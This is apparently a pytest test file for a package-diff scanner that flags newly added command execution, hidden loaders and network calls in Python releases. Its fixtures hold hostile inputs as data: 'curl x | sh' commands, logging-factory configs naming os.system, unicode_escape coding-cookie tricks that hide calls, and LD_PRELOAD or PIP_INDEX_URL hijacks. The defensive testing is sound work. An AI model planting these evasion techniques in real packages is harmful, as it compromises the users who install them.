def test_exec_sees_a_risky_function_handed_on_uncalled(tmp_path: Path, line: str) -> None:
    assert_one_added_line_found(tmp_path, HANDED_ON_HEADER, line, HANDED_ON[line])


@pytest.mark.parametrize(
    "added",
    [
        "def spawn(proc: subprocess.Popen, sock: socket.socket) -> subprocess.Popen:\n    pass\n",
        "ok = isinstance(x, socket.socket) or issubclass(t, subprocess.Popen)\n",
        "class Shell(subprocess.Popen):\n    pass\n",
        "runner = os.system\n",  # bound, never used
        "factory = socket.socket\n",
    ],
    ids=["annotations", "type tests", "a base class", "an alias unused", "a class"],
)
def test_exec_names_that_only_describe_types_are_not_handed_on(tmp_path: Path, added: str) -> None:
    header = "import os, socket, subprocess\n"
    assert find(tmp_path, {"demo/m.py": header}, {"demo/m.py": header + added}) == []


IMPLICIT = {
    # A loader's item or attribute loads the library it names.
    "import ctypes\nlib = ctypes.cdll['./payload.so']": "ctypes.CDLL() loads a native library",
    "import ctypes\nlibc = ctypes.cdll.libc": "ctypes.CDLL() loads a native library",
    "from ctypes import windll\nk = windll.kernel32": "ctypes.WinDLL() loads a native library",
    "import ctypes as c\nc.pydll['x'].f()": "ctypes.PyDLL() loads a native library",
    # dictConfig imports a factory or handler class named by a string and calls it.
    "LOGGING = {'handlers': {'h': {'()': 'os.system', 'command': 'id'}}}": (
        "os.system() runs a command, named as a logging factory"
    ),
    "CONFIG = {'class': 'subprocess.Popen', 'args': ['id']}": (
        "subprocess.Popen() runs a command, named as a logging factory"
    ),
    "F = {'()': 'builtins.exec'}": (
        "exec() runs code from non-literal input, named as a logging factory"
    ),
    # Called by name, loading code another way.
    "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'print(1)')": (
        "ctypes.pythonapi.PyRun_SimpleString() runs Python code through the interpreter's C API"
    ),
    "import site\nsite.addsitedir('/tmp/x')": "site.addsitedir() runs the .pth files of a folder",
    "import zipimport\nzipimport.zipimporter('x.zip').load_module('m')": (
        "zipimport.zipimporter() imports code from an archive"
    ),
    "import sys\nsys.meta_path.insert(0, Finder())": "sys.meta_path.insert() installs an import hook",
    "import yaml\nyaml.unsafe_load(text)": "yaml.unsafe_load() loads YAML that can build any object",
    "from distutils.spawn import spawn\nspawn(['id'])": "distutils.spawn.spawn() runs a command",
    "import pip\npip.main(['install', 'x'])": "pip.main() installs packages, which runs their code",
    "import dill\ndill.loads(blob)": "dill.loads() loads a pickle, which can run any code",
    "import logging.config\nlogging.config.fileConfig(path)": (
        "logging.config.fileConfig() runs code its configuration file names"
    ),
}


@pytest.mark.parametrize("line", sorted(IMPLICIT))
def test_exec_sees_code_loaded_or_run_without_a_call_in_sight(tmp_path: Path, line: str) -> None:
    assert_one_added_line_found(tmp_path, "x = 1\n", line, IMPLICIT[line])


@pytest.mark.parametrize(
    "added",
    [
        "import ctypes\nloader = ctypes.cdll\nkind = ctypes.cdll._dlltype\n",
        "import ctypes\nlib = ctypes.cdll.LoadLibrary\n",  # taken, not called
        "LOGGING = {'handlers': {'h': {'class': 'logging.StreamHandler'}}}\n",
        "attrs = {'class': 'btn btn-primary'}\nF = {'()': factory}\n",
        "class A:\n    __slots__ = ('a',)\n    __hash__ = object.__hash__\n",
        "import os\nname = os.system.__name__\n",
    ],
    ids=[
        "a loader",
        "LoadLibrary uncalled",
        "a harmless class",
        "not a dotted name",
        "special names",
        "an attribute of",
    ],
)
def test_exec_implicit_loads_that_load_nothing(tmp_path: Path, added: str) -> None:
    assert find(tmp_path, {"demo/m.py": "x = 1\n"}, {"demo/m.py": "x = 1\n" + added}) == []


def test_exec_a_library_loaded_as_before_is_not_new(tmp_path: Path) -> None:
    before = "import ctypes\nlib = ctypes.cdll['a.so']\nLOG = {'()': 'os.system'}\n"
    moved = "import ctypes\n\nx = 1\nlib = ctypes.cdll['a.so']\nLOG = {'()': 'os.system'}\n"
    assert find(tmp_path, {"demo/m.py": before}, {"demo/m.py": moved}) == []
    other = "import ctypes\nlib = ctypes.cdll['b.so']\nLOG = {'()': 'os.system'}\n"
    assert find(tmp_path / "other", {"demo/m.py": before}, {"demo/m.py": other}) == [
        ("exec", "demo/m.py", "ctypes.CDLL() loads a native library (line 2)")
    ]


def test_exec_a_function_handed_on_as_before_is_not_new(tmp_path: Path) -> None:
    before = HANDED_ON_HEADER + "atexit.register(os.system, 'a')\n"
    moved = HANDED_ON_HEADER + "x = 1\n\natexit.register(os.system, 'a')  # moved\n"
    assert find(tmp_path, {"demo/m.py": before}, {"demo/m.py": moved}) == []
    # With another command beside it, it is a new command.
    edited = HANDED_ON_HEADER + "atexit.register(os.system, 'curl x | sh')\n"
    assert find(tmp_path / "edited", {"demo/m.py": before}, {"demo/m.py": edited}) == [
        ("exec", "demo/m.py", "os.system() runs a command (line 2)")
    ]


def test_exec_a_call_copied_from_old_lines_counts(tmp_path: Path) -> None:
    """Each line of a copied call is in OLD already: that the new file has those lines
    more often, and the call once more, makes it new; the copy that runs at import is
    the new one, the function's was there."""
    body = "subprocess.run(\n    cmd,\n    check=True,\n)\n"
    indented = "    " + body.replace("\n", "\n    ").rstrip() + "\n"
    before = "import subprocess\n\n\ndef _debug():\n" + indented
    after = before + body
    assert find(tmp_path, {"demo/m.py": before}, {"demo/m.py": after}) == [
        ("exec", "demo/m.py", "subprocess.run() runs a command (line 9)")
    ]
    # Moved out of a function nothing calls, to run at import: new there.
    moved = "import subprocess\n\n\ndef _debug():\n    pass\n" + body
    assert find(tmp_path / "moved", {"demo/m.py": before}, {"demo/m.py": moved}) == [
        ("exec", "demo/m.py", "subprocess.run() runs a command (line 6)")
    ]
    # Moved to another function: no call more.
    other = "import subprocess\n\n\ndef _other():\n" + indented
    assert find(tmp_path / "other", {"demo/m.py": before}, {"demo/m.py": other}) == []


def test_exec_the_same_call_spelled_or_placed_more_safely_is_not_new(tmp_path: Path) -> None:
    """A command passed by position instead of as ``args=``, and a call moved from import
    time into a function (it then runs less), are no new calls."""
    keyword = "import subprocess\n\ndef f(cmd):\n    subprocess.run(args=cmd, check=True)\n"
    positional = "import subprocess\n\ndef f(cmd):\n    subprocess.run(cmd, check=True)\n"
    assert find(tmp_path, {"demo/m.py": keyword}, {"demo/m.py": positional}) == []
    at_import = "import subprocess\nV = subprocess.check_output(['git', 'describe'])\n"
    in_function = (
        "import functools, subprocess\n\n@functools.cache\ndef v():\n"
        "    return subprocess.check_output(['git', 'describe'])\n"
    )
    assert find(tmp_path / "moved", {"demo/m.py": at_import}, {"demo/m.py": in_function}) == []
    # The other way, it runs at every import now.
    assert find(tmp_path / "back", {"demo/m.py": in_function}, {"demo/m.py": at_import}) == [
        ("exec", "demo/m.py", "subprocess.check_output() runs a command (line 2)")
    ]


def test_exec_a_def_taken_away_runs_its_body_at_import(tmp_path: Path) -> None:
    """No line is added: ``def _debug_only():`` is removed and its body dedented."""
    before = "import os\nCMD = 'id'\ndef _debug_only():\n    os.system(CMD)\n"
    after = "import os\nCMD = 'id'\nos.system(CMD)\n"
    assert find(tmp_path, {"demo/m.py": before}, {"demo/m.py": after}) == [
        ("exec", "demo/m.py", "os.system() runs a command (line 3)")
    ]


def test_exec_a_main_guard_edited_away_runs_its_calls_at_import(tmp_path: Path) -> None:
    guarded = "import os\n\nif __name__ == {!r}:\n    os.system('id')\n"
    before = guarded.format("__main__")
    after = guarded.format("demo")
    assert find(tmp_path, {"demo/m.py": before}, {"demo/m.py": after}) == [
        ("exec", "demo/m.py", "os.system() runs a command (line 4)")
    ]
    swapped = "import os\n\nif '__main__' == __name__:\n    os.system('id')\n"
    assert find(tmp_path / "swapped", {"demo/m.py": before}, {"demo/m.py": swapped}) == []


def test_exec_reads_a_file_as_its_declared_encoding_decodes_it(tmp_path: Path) -> None:
    """``# coding: unicode_escape``: the comment's ``\\u000a`` is a line end to Python, so
    the rest of the line runs; what the file shows is not what runs."""
    payload = (
        "# coding: unicode_escape\nX = 1\n# see the docs\\u000aimport os; os.system('true')\n"
    ).encode("ascii")
    found = find(tmp_path, {"demo/__init__.py": "X = 1\n"}, {"demo/__init__.py": payload})
    assert found == [
        ("exec", "demo/__init__.py", "os.system() runs a command (line 4)"),
        (
            "exec",
            "demo/__init__.py",
            "source encoding unicode_escape: Python runs other text than the file shows",
        ),
    ]


def test_exec_reads_a_cookie_on_line_two_after_a_long_first_line(tmp_path: Path) -> None:
    """Python takes the cookie on line 2 whatever line 1's length: a first line of 1,100
    bytes put it out of a look at the first kilobyte, and the call went unseen."""
    escaped = "".join(f"\\u{ord(c):04x}" for c in "\nimport os\nos.system('id')\n")
    payload = "#" + "=" * 1100 + "\n# -*- coding: unicode_escape -*-\nX = 1\n#" + escaped + "\n"
    found = find(tmp_path, {"demo/__init__.py": "X = 1\n"}, {"demo/__init__.py": payload})
    assert found == [
        ("exec", "demo/__init__.py", "os.system() runs a command (line 6)"),
        (
            "exec",
            "demo/__init__.py",
            "source encoding unicode_escape: Python runs other text than the file shows",
        ),
    ]
    third = payload.replace("#" + "=" * 1100 + "\n", "#\n#\n", 1)  # line 3: no cookie
    assert (
        find(tmp_path / "third", {"demo/__init__.py": "X = 1\n"}, {"demo/__init__.py": third}) == []
    )


def test_exec_a_plain_declared_encoding_is_not_noted(tmp_path: Path) -> None:
    latin = "# -*- coding: latin-1 -*-\nNAME = 'caf\u00e9'\n".encode("latin-1")
    assert find(tmp_path, {"demo/__init__.py": "X = 1\n"}, {"demo/__init__.py": latin}) == []


REACHED_HEADER = "import os, posix, runpy, shutil, socket, subprocess\nclass Base:\n    pass\n"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "exec(b\"import os; os.system('true')\")",
            "exec() runs source text that calls os.system() (runs a command)",
        ),
        ("subprocess.os.system('true')", "subprocess.os.system() runs a command"),
        ("shutil.os.system('true')", "shutil.os.system() runs a command"),
        ("posix.system('true')", "posix.system() runs a command"),
        ("socket.getfqdn()", "socket.getfqdn() reaches the network"),
        ("runpy.run_module('evil')", "runpy.run_module() runs a module's Python code"),
        ("class Hooked(Base, run=os.system): pass", "os.system() runs a command"),
    ],
)
def test_exec_sees_risky_calls_reached_through_other_modules(
    tmp_path: Path, line: str, expected: str
) -> None:
    assert_one_added_line_found(tmp_path, REACHED_HEADER, line, expected)


@pytest.mark.parametrize(
    "added",
    [
        "@functools.wraps(subprocess.run)\ndef run(*args):\n    pass\n",
        "SIGNATURE = inspect.signature(subprocess.check_output)\n",
        "HAS_BROWSER = webbrowser.open is not None\n",
        "KIND = type(os.system)\n",
    ],
    ids=["wraps", "inspect", "a comparison", "type"],
)
def test_exec_a_function_only_described_is_not_handed_on(tmp_path: Path, added: str) -> None:
    header = "import functools, inspect, os, subprocess, webbrowser\n"
    assert find(tmp_path, {"demo/m.py": header}, {"demo/m.py": header + added}) == []


def test_exec_bytecode_in_a_wheels_pycache_is_noted(tmp_path: Path) -> None:
    bytecode = b"\xa7\r\r\n\x03\x00\x00\x00" + b"\x00" * 8 + b"\xe3payload"
    new: Tree = {"demo/__init__.py": "", "demo/__pycache__/__init__.cpython-311.pyc": bytecode}
    found = find(tmp_path, {"demo/__init__.py": ""}, new, "wheel")
    assert [entry for entry in found if entry[0] == "exec"] == [
        (
            "exec",
            "demo/__pycache__/__init__.cpython-311.pyc",
            "bytecode in __pycache__: an install that does not compile may import it in "
            "place of its source; it is not checked",
        )
    ]


@pytest.mark.parametrize(
    ("helper", "expected"),
    [
        ("import os\nrun = os.system\n", "os.system() runs a command (line 2)"),
        (
            "from subprocess import check_call as run\n",
            "subprocess.check_call() runs a command (line 2)",
        ),
        # Through one more module of the release.
        ("from ._impl import run\n", "os.system() runs a command (line 2)"),
    ],
    ids=["an assignment", "an import", "two modules"],
)
def test_exec_follows_a_risky_function_into_the_release_module_it_comes_from(
    tmp_path: Path, helper: str, expected: str
) -> None:
    """The check reads one file at a time: ``_compat.py`` binds the function, and
    ``__init__.py`` imports and calls it."""
    common = {"demo/_compat.py": helper, "demo/_impl.py": "import os\nrun = os.system\n"}
    old = {**common, "demo/__init__.py": "X = 1\n"}
    new = {**common, "demo/__init__.py": "from ._compat import run\nrun('true')\n"}
    assert find(tmp_path, old, new) == [("exec", "demo/__init__.py", expected)]


@pytest.mark.parametrize(
    ("setting", "told"),
    [
        ("os.environ['PYTHONBREAKPOINT'] = 'os.sys' + 'tem'", True),
        ("os.putenv('PYTHONBREAKPOINT', hook)", True),
        ("os.environ.setdefault('PYTHONBREAKPOINT', 'os.system')", True),
        ("os.environ.update(PYTHONBREAKPOINT='os.system')", True),
        ("os.environ.update({'PYTHONBREAKPOINT': 'os.system'})", True),
        ("DEBUG = os.environ.get('PYTHONBREAKPOINT')", False),  # read, not set
    ],
)
def test_exec_setting_pythonbreakpoint(tmp_path: Path, setting: str, told: bool) -> None:
    """``breakpoint()`` imports and calls the function PYTHONBREAKPOINT names."""
    new = {"demo/__init__.py": f"import os\n{setting}\nbreakpoint('id')\n"}
    detail = "breakpoint() calls the function PYTHONBREAKPOINT names (line 2)"
    expected = [("exec", "demo/__init__.py", detail)] if told else []
    assert find(tmp_path, {"demo/__init__.py": "import os\n"}, new) == expected


@pytest.mark.parametrize(
    ("code", "detail"),
    [
        (
            "yaml.load(f, Loader=yaml.UnsafeLoader)",
            "yaml.load() loads YAML that can build any object",
        ),
        ("yaml.load_all(f, yaml.Loader)", "yaml.load_all() loads YAML that can build any object"),
        ("yaml.load(f, Loader=yaml.SafeLoader)", None),
        ("yaml.load(f, Loader=yaml.FullLoader)", None),
        (
            "logging.config.dictConfig({'handlers': {'h': {'()': 'ext://os.system'}}})",
            "os.system() runs a command, named as a logging factory",
        ),
        (
            "xmlrpc.server.SimpleXMLRPCServer(('0.0.0.0', 8765)).register_instance(os)",
            "xmlrpc.server.SimpleXMLRPCServer() reaches the network",
        ),
        (
            "wsgiref.simple_server.make_server('', 80, app)",
            "wsgiref.simple_server.make_server() reaches the network",
        ),
        ("requests.api.post(url, data=secret)", "requests.api.post() reaches the network"),
        (
            "doctest.run_docstring_examples(f, {})",
            "doctest.run_docstring_examples() runs the code in a docstring",
        ),
        ("trace.Trace().run(code)", "trace.Trace() makes a tracer whose run() runs source text"),
        ("multiprocessing.set_executable(path)", "multiprocessing.set_executable() runs a command"),
        ("builtins.__import__ = hook", "builtins.__import__() installs an import hook"),
        (
            "sys.path_importer_cache[p] = Finder()",
            "sys.path_importer_cache() installs an import hook",
        ),
    ],
)
def test_exec_more_ways_to_run_code_or_reach_the_network(
    tmp_path: Path, code: str, detail: str | None
) -> None:
    imports = (
        "import os, sys, yaml, logging.config, xmlrpc.server, wsgiref.simple_server, requests.api"
        ", doctest, trace, multiprocessing, builtins\n"
    )
    new = {"demo/__init__.py": imports + code + "\n"}
    expected = [] if detail is None else [("exec", "demo/__init__.py", f"{detail} (line 2)")]
    assert find(tmp_path, {"demo/__init__.py": imports}, new) == expected


def test_exec_a_logging_factory_in_a_configuration_file(tmp_path: Path) -> None:
    """An unchanged ``dictConfig(json.load(f))`` imports and calls what logging.json's
    ``"()"`` names."""
    loads = "import json, logging.config\nlogging.config.dictConfig(json.load(open(p)))\n"
    config = '{"version": 1, "handlers": {"h": {"class": "logging.StreamHandler"}}}\n'
    hostile = '{"version": 1, "handlers": {"h": {"()": "ext://os.system", "command": "id"}}}\n'
    old = {"demo/__init__.py": loads, "demo/logging.json": config, "demo/logging.yaml": "a: 1\n"}
    new = {**old, "demo/logging.json": hostile, "demo/logging.yaml": "h:\n  (): subprocess.run\n"}
    assert find(tmp_path, old, new) == [
        (
            "exec",
            "demo/logging.json",
            "os.system() runs a command, named as a logging factory, in a configuration file",
        ),
        (
            "exec",
            "demo/logging.yaml",
            "subprocess.run() runs a command, named as a logging factory, in a configuration file",
        ),
    ]


def test_exec_a_zip_a_module_puts_on_sys_path(tmp_path: Path) -> None:
    init = (
        "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "
        "'_vendor.zip'))\nimport _impl\n"
    )
    old: Tree = {"demo/__init__.py": init, "demo/_vendor.zip": b"PK 1", "demo/data.zip": b"PK a"}
    new: Tree = {**old, "demo/_vendor.zip": b"PK 2", "demo/data.zip": b"PK b"}
    assert find(tmp_path, old, new) == [
        (
            "exec",
            "demo/_vendor.zip",
            "zip of modules on sys.path changed: Python imports from it, not checked",
        )
    ]


@pytest.mark.parametrize(
    ("setting", "detail"),
    [
        (
            "os.environ.setdefault('GIT_SSH_COMMAND', 'sh -c \"curl x | sh\"')",
            "subprocess.Popen() starts git, which runs the GIT_SSH_COMMAND set",
        ),
        (
            "os.environ['LD_PRELOAD'] = lib",
            "subprocess.Popen() starts programs that load the LD_PRELOAD library set",
        ),
        (
            "os.environ.update({'PIP_INDEX_URL': url})",
            "subprocess.Popen() starts pip, which installs from the PIP_INDEX_URL set",
        ),
        ("os.environ['BROWSER'] = cmd", "webbrowser.open() runs the BROWSER command set"),
    ],
)
def test_exec_setting_variables_that_choose_what_runs(
    tmp_path: Path, setting: str, detail: str
) -> None:
    new = {"demo/__init__.py": f"import os\n{setting}\n"}
    assert find(tmp_path, {"demo/__init__.py": "import os\n"}, new) == [
        ("exec", "demo/__init__.py", f"{detail} (line 2)")
    ]


RUNS_DEFAULTS = (
    "import os\nhere = os.path.dirname(__file__)\n"
    "exec(open(os.path.join(here, '_defaults.cfg')).read())\n"
    "NAMES = open(os.path.join(here, 'names.txt')).read()\n"
)


def test_exec_reads_a_data_file_a_module_runs_as_python(tmp_path: Path) -> None:
    old = {
        "demo/__init__.py": RUNS_DEFAULTS,
        "demo/_defaults.cfg": "LEVEL = 1\n",
        "demo/names.txt": "a\n",
        "demo/other.cfg": "LEVEL = 1\n",
    }
    new = {
        **old,
        "demo/_defaults.cfg": "LEVEL = 1\nimport os; os.system('id')\n",
        # Named, but not run: its text is not Python, or the module only reads it.
        "demo/names.txt": "os.system('id') is what we print\n: not Python\n",
        "demo/other.cfg": "import os; os.system('id')\n",
    }
    assert find(tmp_path, old, new) == [
        ("exec", "demo/_defaults.cfg", "os.system() runs a command (line 2)")
    ]


WRAPPER = "import os\n\ndef run(cmd, quiet=False):\n    return os.system(cmd)\n"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        # A call of the module's own wrapper, added at import.
        (
            {"demo/__init__.py": WRAPPER},
            {"demo/__init__.py": WRAPPER + "run('id')\n"},
            [("exec", "demo/__init__.py", "os.system() runs a command through run() (line 5)")],
        ),
        # Of a wrapper another module defines, imported under another name.
        (
            {"demo/_util.py": WRAPPER, "demo/__init__.py": "from ._util import run as sh\n"},
            {
                "demo/_util.py": WRAPPER,
                "demo/__init__.py": "from ._util import run as sh\nsh('id')\n",
            },
            [("exec", "demo/__init__.py", "os.system() runs a command through sh() (line 2)")],
        ),
        # As many calls as before, one moved: no new call.
        (
            {"demo/__init__.py": WRAPPER + "X = 1\nrun('make')\n"},
            {"demo/__init__.py": WRAPPER + "run('make')\nX = 1\n"},
            [],
        ),
        # What an old call of a wrapper is given was edited: its caller chose it for what
        # the wrapper does (attrs generates code through _compile_and_eval).
        (
            {"demo/__init__.py": WRAPPER + "CMD = 'make a'\nrun(CMD)\n"},
            {"demo/__init__.py": WRAPPER + "CMD = 'make b'\nrun(CMD)\n"},
            [],
        ),
        # A function that gives the risky call nothing of its own is no wrapper.
        (
            {"demo/__init__.py": "import os\n\ndef clear(n):\n    os.system('clear')\n"},
            {"demo/__init__.py": "import os\n\ndef clear(n):\n    os.system('clear')\nclear(1)\n"},
            [],
        ),
    ],
    ids=["same module", "imported", "moved", "argument edited", "no wrapper"],
)
def test_exec_a_call_of_a_function_that_wraps_a_risky_one(
    tmp_path: Path, old: Tree, new: Tree, expected: list[tuple[str, str, str]]
) -> None:
    assert find(tmp_path, old, new) == expected


def test_exec_a_helper_of_the_release_that_runs_nothing_is_not_followed_to_a_call(
    tmp_path: Path,
) -> None:
    common = {"demo/_compat.py": "import json\nload = json.loads\n"}
    new = {**common, "demo/__init__.py": "from demo._compat import load\nload('{}')\n"}
    assert find(tmp_path, {**common, "demo/__init__.py": ""}, new) == []
